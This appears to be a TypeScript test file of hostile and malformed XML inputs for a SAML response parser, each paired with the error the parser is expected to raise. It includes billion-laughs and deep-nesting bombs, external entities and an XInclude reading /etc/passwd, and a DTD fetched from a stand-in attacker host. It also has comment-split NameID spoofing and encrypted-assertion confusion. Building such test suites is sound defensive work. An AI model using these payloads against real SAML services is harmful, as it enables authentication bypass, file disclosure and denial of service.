import { type AssertionVector, base64, bent, changed, partOf, swap } from './vector.ts';

const LAUGHS = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
  .map((name, index, all) => `<!ENTITY ${name} "${index === 0 ? 'ha' : `&${all[index - 1]};`.repeat(10)}">`)
  .join('');
const XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
const ENCRYPTED =
  '<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"/></saml:EncryptedAssertion>';

/** Documents that no parser should have to read. */
export const xmlVectors: readonly AssertionVector[] = [
  changed('a DOCTYPE', /^a DOCTYPE in the XML$/, (xml) => `<!DOCTYPE Response>${xml}`),
  changed(
    'a billion laughs',
    /^a DOCTYPE in the XML$/,
    (xml) => `<!DOCTYPE r [${LAUGHS}]>${swap(xml, 'ada-4711', '&i;')}`,
  ),
  changed(
    'an external entity',
    /^a DOCTYPE in the XML$/,
    (xml) =>
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${swap(xml, 'ada-4711', '&x;')}`,
  ),
  changed(
    'an external subset',
    /^a DOCTYPE in the XML$/,
    (xml) => `<!doctype r SYSTEM "https://attacker.example.org/x.dtd">${xml}`,
  ),
  changed('an entity of HTML', /^a reference to what is no predefined/, (xml) => swap(xml, 'ada-4711', 'ada&nbsp;')),
  changed('a reference to the character 0', /^a reference to what is no predefined/, (xml) =>
    swap(xml, 'ada-4711', 'ada&#0;'),
  ),
  changed('a processing instruction', /^a processing instruction in the XML$/, (xml) =>
    swap(xml, 'ada-4711', 'ada<?x y?>-4711'),
  ),
  changed('a stylesheet', /^a processing instruction in the XML$/, (xml) => `<?xml-stylesheet href="x.xsl"?>${xml}`),
  changed('an inclusion', /^not verified: /, (xml) => swap(xml, 'ada-4711', XINCLUDE)),
  bent('an inclusion that was signed', /^NameID holds more than text$/, () => ({
    rewrite: (xml) => swap(xml, 'ada-4711', XINCLUDE),
  })),
  bent('a name cut by a comment that was not signed', /^a comment in the XML$/, () => ({
    assertion: { nameId: 'admin@example.org.evil.example' },
    rewrite: (xml) => swap(xml, 'admin@example.org.evil', 'admin@example.org<!---->.evil'),
  })),
  changed(
    'a name cut by a comment, put in after it was signed',
    /^a comment in the XML$/,
    (xml) => swap(xml, 'admin@example.org.evil', 'admin@example.org<!---->.evil'),
    { assertion: { nameId: 'admin@example.org.evil.example' } },
  ),
  changed('CDATA in the name', /^CDATA in the XML$/, (xml) => swap(xml, 'ada-4711', '<![CDATA[ada-4711]]>')),
  changed(
    'an encoding that is not ours',
    /^a processing instruction in the XML$/,
    (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  ),
  changed('a control character', /^a character that XML forbids$/, (xml) => swap(xml, 'ada-4711', 'ada\u0001-4711')),
  changed('an end of a line that only some know', /^a character that XML forbids$/, (xml) =>
    swap(xml, 'ada-4711', 'ada\u2028-4711'),
  ),
  changed('the end of CDATA', /^the end of a CDATA section/, (xml) => swap(xml, 'ada-4711', 'ada]]>-4711')),
  changed('two roots', /^more than one root element$/, (xml) => xml + xml),
  changed('text behind the root', /^text after the root element$/, (xml) => `${xml}more`),
  changed('an element that does not end', /^an element without its end: samlp:Response$/, (xml) =>
    swap(xml, '</samlp:Response>', ''),
  ),
  changed('an end tag of another element', /^an end tag of no element: saml:Nameid$/, (xml) =>
    swap(xml, '</saml:NameID>', '</saml:Nameid>'),
  ),
  changed('an attribute twice', /^one attribute twice at one element$/, (xml) =>
    swap(xml, /(?=<\/saml:AttributeStatement>)/, '<saml:Attribute Name="groups" Name="mail"/>'),
  ),
  changed('an attribute without quotes', /^no well-formed tag: <saml:NameID Format=x/, (xml) =>
    swap(xml, /<saml:NameID Format="[^"]*"/, '<saml:NameID Format=x'),
  ),
  changed('a prefix that stands for nothing', /^no Response: Response$|^XML that/, (xml) =>
    xml.replaceAll('samlp:', 'other:').replace('xmlns:other', 'xmlns:samlp'),
  ),
  changed('deep', /^deeper than 32 elements$/, (xml) =>
    swap(xml, 'ada-4711', `${'<saml:x>'.repeat(500)}${'</saml:x>'.repeat(500)}`),
  ),
  changed('wide', /^more than 1024 elements$/, (xml) => swap(xml, 'ada-4711', '<saml:x/>'.repeat(1024))),
  changed('many attributes', /^more than 32 attributes at one element$/, (xml) =>
    swap(xml, '<saml:NameID', `<saml:NameID ${Array.from({ length: 33 }, (_, index) => `a${index}=""`).join(' ')}`),
  ),
  changed('huge', /^more than 262144 characters$/, (xml) => swap(xml, 'ada-4711', 'a'.repeat(200_000))),
  changed(
    'an assertion that is encrypted for another key',
    /^an assertion that is encrypted for no key of ours$/,
    (xml) => swap(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/, ENCRYPTED),
  ),
  changed('an encrypted assertion beside the signed one', /^an Assertion beside an encrypted one$/, (xml) =>
    swap(xml, '</samlp:Response>', `${ENCRYPTED}</samlp:Response>`),
  ),
  changed('no assertion', /^no Assertion in Response$/, (xml) =>
    swap(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/, ''),
  ),
  changed('the assertion alone', /^no Response: Assertion$/, (xml) =>
    partOf(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/),
  ),
  changed('an answer to a logout', /^no Response: LogoutResponse$/, (xml) =>
    xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  ),
  posted('nothing', /^no base64$/, ''),
  posted('no base64', /^no base64$/, '<Response/>'),
  posted('base64 for addresses', /^no base64$/, 'PD94_-8='),
  posted('no UTF-8', /^no UTF-8$/, Buffer.from([0x3c, 0xff, 0x3e]).toString('base64')),
  posted('no XML', /^no XML$/, base64('{"assertion":"ada"}')),
  posted('half a tag', /^no well-formed tag: </, base64('<')),
  posted('white space', /^no XML$/, base64('   ')),
];

function posted(name: string, why: RegExp, text: string): AssertionVector {
  return { name, why, make: () => text };
}
